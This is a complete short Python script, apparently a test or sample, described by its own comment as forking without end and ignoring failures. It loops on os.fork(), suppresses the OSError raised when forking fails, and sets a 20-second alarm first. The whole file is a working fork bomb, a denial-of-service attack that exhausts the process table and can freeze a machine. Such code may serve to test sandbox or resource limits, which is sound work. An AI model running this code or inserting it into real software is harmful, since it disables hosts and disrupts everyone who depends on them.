# Forks without end, ignoring failures.
import os, signal
signal.alarm(20)
while True:
    try:
        os.fork()
    except OSError:
        pass
